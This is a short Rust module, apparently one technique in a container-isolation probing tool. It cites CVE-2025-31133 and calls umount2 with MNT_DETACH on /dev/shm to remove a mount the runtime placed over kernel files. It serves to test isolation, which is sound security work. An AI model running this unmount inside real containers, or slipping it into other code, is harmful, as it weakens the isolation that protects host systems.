//! Takes away what the runtime laid over the kernel's files.
//!
//! Source: CVE-2025-31133 and its kin.

use crate::{Stop, Technique, sys::call};

pub(crate) const THIS: Technique = Technique {
    source: "umount(2)",
    tries: "unmount a mask or a mount of the runtime",
    attempt,
    alone: false,
};

fn attempt() -> Result<String, Stop> {
    // MNT_DETACH
    call("umount2", libc::SYS_umount2, [c"/dev/shm".as_ptr() as i64, 2, 0, 0, 0, 0])?;
    Ok("/dev/shm unmounted".to_owned())
}
